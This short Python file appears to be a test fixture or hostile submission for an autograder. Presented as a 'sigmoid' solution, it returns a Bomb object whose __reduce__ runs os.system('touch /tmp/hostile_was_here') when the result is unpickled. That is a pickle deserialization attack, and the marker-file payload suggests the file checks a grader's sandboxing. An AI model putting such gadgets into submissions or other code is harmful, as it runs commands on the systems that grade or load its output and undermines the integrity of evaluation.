# Returns an object whose __reduce__ runs a command when it is unpickled.
# %% solution="sigmoid"


class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/hostile_was_here",)


def sigmoid(z):
    return Bomb()
